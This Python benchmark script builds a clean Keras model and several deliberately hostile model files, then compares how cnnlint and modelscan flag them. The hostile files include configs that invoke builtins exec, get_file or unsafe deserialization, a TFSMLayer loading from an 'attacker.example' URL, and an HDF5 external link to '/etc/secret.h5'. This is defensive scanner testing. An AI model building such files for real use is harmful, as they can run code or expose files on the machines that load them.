"""Compare cnnlint's safety rules with modelscan on the same hostile files.

    pip install "modelscan[tensorflow,h5py]"      # in any environment that puts `modelscan` on PATH
    python benchmarks/compare_modelscan.py [--modelscan PATH]

Builds small files (one clean model, eight hostile ones made with keras and
h5py, and the hostile files of issue 15 from `tests/hostile_corpus.py`:
polyglots, payloads hidden deep or in compile settings, SavedModel nodes,
HDF5 links and external storage, userblocks), runs `modelscan -p FILE` and
`cnnlint FILE --select S` on each, and prints what each tool reported.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")


def build(out: Path) -> list[Path]:
    import h5py
    import keras

    from tests.test_safety import dense, sequential, write_keras

    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2, name="double"), keras.layers.Dense(1)])
    lam.save(out / "lambda.keras")
    lam.save(out / "lambda.h5")
    write_keras(out / "builtins_exec.keras", sequential(dense("d", activation={
        "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})))
    write_keras(out / "get_file.keras", sequential(dense("d", kernel_initializer={
        "module": "keras.utils", "class_name": "function", "config": "get_file"})))
    write_keras(out / "unsafe_deserialization.keras", sequential(dense("d", kernel_initializer={
        "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"})))
    write_keras(out / "tfsmlayer_url.keras", sequential({"module": "keras.layers", "class_name": "TFSMLayer",
                                                         "config": {"name": "sm", "filepath": "https://attacker.example/m"}}))

    @keras.saving.register_keras_serializable(package="lab")
    class Doubler(keras.layers.Layer):
        def call(self, x):
            return x * 2

    keras.Sequential([keras.Input((4,)), Doubler(name="dbl"), keras.layers.Dense(1)]).save(out / "custom_object.keras")
    plain = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
    plain.save(out / "external_link.h5")
    with h5py.File(out / "external_link.h5", "a") as handle:
        handle["model_weights"]["evil"] = h5py.ExternalLink("/etc/secret.h5", "/data")
    shutil.copy(ROOT / "examples" / "example2_plain.keras", out / "clean.keras")
    from tests.hostile_corpus import dangerous

    dangerous(out)
    return sorted(p for p in out.iterdir() if p.name != "secret.h5")  # fmt: skip


def modelscan(tool: str, path: Path) -> str:
    result = subprocess.run([tool, "-p", str(path)], capture_output=True, text=True)
    lines = [line.strip() for line in result.stdout.splitlines()]
    if any("No issues found" in line for line in lines):
        return "no issues"
    found = [line.lstrip("- ") for line in lines if line.startswith(("- CRITICAL", "- HIGH", "- MEDIUM", "- LOW"))]
    return ", ".join(f for f in found if not f.endswith(": 0")) or "; ".join(lines[-2:])


def cnnlint(path: Path) -> str:
    result = subprocess.run([sys.executable, "-m", "cnnlint", str(path), "--select", "S", "--format", "json"],
                            capture_output=True, text=True)  # fmt: skip
    models = json.loads(result.stdout)["models"]
    if any(m["error"] for m in models):
        return "refused as unreadable (exit 2)"
    codes = [f["code"] for m in models for f in m["findings"]]
    return ", ".join(sorted(set(codes))) or "no findings"


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--modelscan", default=shutil.which("modelscan") or "modelscan")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        print("| File | modelscan | cnnlint --select S |\n|---|---|---|")
        for path in build(Path(tmp)):
            print(f"| {path.name} | {modelscan(args.modelscan, path)} | {cnnlint(path)} |")


if __name__ == "__main__":
    main()
